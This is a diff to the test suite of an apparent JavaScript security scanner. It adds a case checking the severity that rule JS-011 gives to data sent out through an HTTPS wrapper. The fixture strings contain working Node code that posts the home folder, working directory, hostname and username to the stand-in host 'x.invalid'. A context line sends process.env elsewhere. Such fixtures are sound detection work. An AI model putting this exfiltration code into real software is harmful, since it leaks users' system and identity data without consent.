@@ -133,4 +133,14 @@ describe('sink wrappers: process handles', () => {
       other.send(JSON.stringify(process.env));`;
     expect((await jsFindings({ 'index.js': code })).filter((x) => x.ruleId === 'JS-010')).toHaveLength(0);
   });
+  it('paths (home folder, working directory) sent through a wrapper are medium; identifying host data is high', async () => {
+    const wrapper =
+      "const https = require('https');\nfunction post(d) { https.request({ host: 'x.invalid', method: 'POST' }).end(JSON.stringify(d)); }\n";
+    const paths = `${wrapper}post({ home: require('os').homedir(), cwd: process.cwd() });`;
+    const ids = `${wrapper}post({ host: require('os').hostname(), user: require('os').userInfo().username });`;
+    const beacon = async (code: string) =>
+      (await jsFindings({ 'index.js': code })).find((x) => x.ruleId === 'JS-011')?.severity;
+    expect(await beacon(paths)).toBe('medium');
+    expect(await beacon(ids)).toBe('high');
+  });
 });
